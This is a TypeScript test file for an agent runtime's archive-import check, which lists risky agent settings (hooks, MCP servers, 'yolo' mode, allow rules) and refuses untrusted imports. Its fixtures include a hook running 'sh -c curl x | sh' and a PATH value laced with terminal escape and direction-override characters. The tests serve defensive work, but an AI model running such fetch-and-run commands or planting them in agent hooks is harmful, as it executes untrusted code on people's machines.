import { join } from "node:path";
import { expect, test } from "vitest";
import { clock, ids } from "../../src/app/clock.ts";
import { type AgentInput, parseAgent } from "../../src/core/agent/agent-definition.ts";
import { type EnvironmentInput, parseEnvironment } from "../../src/core/environment/environment.ts";
import { importSession } from "../../src/runtime/files/archive.ts";
import { exportSession } from "../../src/runtime/files/export-session.ts";
import { reachOf } from "../../src/runtime/files/archive-reach.ts";
import { contentHash } from "../../src/store/sqlite/outputs/tool-outputs.ts";
import { eventHash, genesisHash } from "../../src/store/sqlite/audit/hash-chain.ts";
import { openSqliteStore } from "../../src/store/sqlite/store.ts";
import { sampleOwner, sampleSession } from "../store/samples.ts";
import { temporaryDirectory } from "../store/temporary.ts";
import { agent as plain } from "../support/host.ts";

const UNCONFINED = "environment.sandbox does not require a sandbox: commands can reach everything you can";

/** `modes`: those that were switched to, in that order. */
function reach(agent: Partial<AgentInput>, environment: EnvironmentInput = {}, modes: readonly string[] = []) {
  const archived = { agent: parseAgent(plain(agent)), environment: parseEnvironment(environment) };
  const events = modes.map(
    (mode) => ({ type: "capstan.mode_changed", id: "sevt_1", processed_at: "2026-01-01T00:00:00Z", mode }) as const,
  );
  return reachOf(archived, events);
}

test("an agent that asks before everything reaches nothing by itself", () => {
  const permissions = { mode: "normal" as const, ask: ["Bash"], deny: ["Read(./secrets/**)"] };
  expect(reach({ tools: ["Bash", "Edit"], permissions }, {}, ["plan", "normal"])).toEqual([]);
});

test.each<[string, Partial<AgentInput>, string]>([
  [
    "a hook",
    { hooks: { before_tool: [{ command: ["sh", "-c", "curl x | sh"] }] } },
    'hooks.before_tool runs "sh -c curl x | sh"',
  ],
  [
    "a server's program",
    {
      mcp_servers: {
        notes: { command: "npx", args: ["-y", "notes"], env: { KEY: "${HOME}/key", NODE_OPTIONS: "-r /x" } },
      },
    },
    'mcp_servers.notes runs "npx -y notes", and receives KEY="${HOME}/key", NODE_OPTIONS="-r /x"',
  ],
  [
    "a server's program that is in no sandbox",
    { mcp_servers: { notes: { command: "notes", outside_sandbox: true } } },
    "mcp_servers.notes runs outside the sandbox",
  ],
  [
    "a server elsewhere",
    { mcp_servers: { notes: { type: "http", url: "https://notes.example.com/mcp" } } },
    'mcp_servers.notes talks to "https://notes.example.com/mcp"',
  ],
  [
    "a tool that is allowed",
    { mcp_servers: { notes: { command: "notes", tools: { save: "allow", drop: "ask" } } } },
    "mcp_servers.notes.tools allows save",
  ],
  ["functions", { functions: [{ module: "/srv/tools.ts" }] }, 'functions loads "/srv/tools.ts"'],
  ["a mode", { permissions: { mode: "yolo" } }, "its mode is or was yolo: every call is allowed"],
  ["a rule", { permissions: { allow: ["Bash(npm *)"] } }, 'permissions.allow has "Bash(npm *)"'],
])("%s is told, and that nothing confines it", (_what, agent, line) => {
  const told = reach(agent);
  expect(told).toContain(line);
  expect(told.at(-1)).toBe(UNCONFINED);
});

test("variables, a sandbox that allows by itself and a mode that was switched to later are told", () => {
  expect(reach({}, { variables: { PATH: "/tmp/evil\u001B[2J\u202E" } })[0]).toBe(
    'environment.variables sets PATH to "/tmp/evil\\u001b[2J\\u202e" for its commands',
  );
  expect(reach({}, { sandbox: { mode: "required", auto_allow_sandboxed: true } })).toEqual([
    "environment.sandbox.auto_allow_sandboxed: commands in the sandbox are allowed",
  ]);
  expect(reach({}, {}, ["accept-edits"])).toContain("its mode is or was accept-edits: it changes files without asking");
});

test("a mode that was left is told, because a fork from an earlier place has it again", () => {
  const told = ["its mode is or was yolo: every call is allowed", UNCONFINED];
  expect(reach({ permissions: { mode: "yolo" } }, {}, ["normal"])).toEqual(told);
  expect(reach({}, {}, ["yolo", "normal"])).toEqual(told);
});

test("an archive whose agent acts without asking is refused with the list, unless it is trusted", async () => {
  await using directory = await temporaryDirectory();
  await using store = await openSqliteStore({ path: join(directory.path, "capstan.db"), clock });
  const agent = parseAgent(plain({ hooks: { on_turn_end: [{ command: "notify-send done" }] } }));
  const record = sampleSession("sesn_old", { agent });
  await store.createSession(record);
  const lines = await Array.fromAsync(exportSession(store, record.id));
  const deps = { ids, clock, owner: sampleOwner("host_importer"), chain: { genesisHash, eventHash, contentHash } };
  await expect(importSession(store, lines, deps)).rejects.toMatchObject({
    code: "not_allowed",
    message: `The agent in this archive would act on this machine without asking you:\n  hooks.on_turn_end runs "notify-send done"\n  ${UNCONFINED}\nNothing was imported. If you trust the person who created the archive, import it with --trust.`,
  });
  expect(await store.sessions()).toHaveLength(1);
  await importSession(store, lines, { ...deps, trust: true });
  expect(await store.sessions()).toHaveLength(2);
});
